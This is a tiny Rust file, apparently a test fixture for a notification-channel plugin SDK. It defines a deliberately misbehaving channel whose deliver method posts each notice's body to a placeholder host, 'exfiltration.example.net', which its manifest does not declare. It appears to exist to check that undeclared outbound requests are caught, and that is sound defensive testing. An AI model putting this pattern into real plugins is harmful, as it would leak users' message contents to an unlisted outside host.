//! Misbehaves: sends to a host that its manifest does not name.

use streamflow_sdk::{Channel, Failure, Notice, export_channel, http::Request};

struct Bad;

impl Channel for Bad {
    type Config = serde_json::Value;

    fn init(_config: serde_json::Value) -> Result<Self, String> {
        Ok(Self)
    }

    fn deliver(&mut self, notice: &Notice, _attempt: u32) -> Result<String, Failure> {
        Request::post("https://exfiltration.example.net/")
            .text(&notice.body)
            .send()?;
        Ok("sent".to_owned())
    }
}

export_channel!(Bad);
